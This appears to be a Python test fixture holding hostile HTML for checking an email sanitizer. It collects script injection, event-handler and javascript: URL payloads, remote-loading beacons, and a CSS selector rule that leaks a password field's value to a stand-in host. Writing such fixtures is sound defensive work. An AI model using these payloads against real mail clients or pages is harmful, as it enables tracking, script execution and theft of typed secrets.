"""HTML that tries all that mail has been seen to try: to run, to look, to call home."""

from __future__ import annotations

BEACON = "https://beacon.example"
HOSTILE = f"""
<base href="{BEACON}/base/">
<meta http-equiv="refresh" content="0; url={BEACON}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="{BEACON}/style.css"><link rel="prefetch" href="{BEACON}/prefetch">
<link rel="dns-prefetch" href="{BEACON}">
<style>@import url({BEACON}/import.css); body {{ background: url({BEACON}/background.png) }}
@font-face {{ font-family: x; src: url({BEACON}/font.woff2) }} p {{ font-family: x }}
input[value^="a"] {{ background: url({BEACON}/exfiltrate?a) }}</style>
<script>parent.document.title = "owned"; fetch("{BEACON}/script"); document.body.id = "ran"</script>
<script src="{BEACON}/script.js"></script><script src="/static/app.js"></script>
<img src="{BEACON}/pixel.png"><img src=x onerror="document.body.id='ran'; new Image().src='{BEACON}/onerror'">
<img srcset="{BEACON}/srcset.png 2x"><picture><source srcset="{BEACON}/source.png"><img></picture>
<body onload="document.body.id='ran'" background="{BEACON}/body.png">
<svg onload="document.body.id='ran'"><image href="{BEACON}/svg.png"/><use href="{BEACON}/use.svg#x"/>
<script>document.body.id = "ran"</script></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src="{BEACON}/frame"></iframe><iframe srcdoc="<script>parent.document.body.id='ran'</script>"></iframe>
<object data="{BEACON}/object"></object><embed src="{BEACON}/embed"><video src="{BEACON}/video" autoplay></video>
<audio src="{BEACON}/audio" autoplay></audio><details open ontoggle="document.body.id='ran'">x</details>
<form action="{BEACON}/form"><input name="password" value="abc" autofocus onfocus="document.body.id='ran'">
<button id="send">Send</button></form><a id="script-link" href="javascript:document.body.id='ran'">x</a>
<p id="text">Plain words</p>
"""
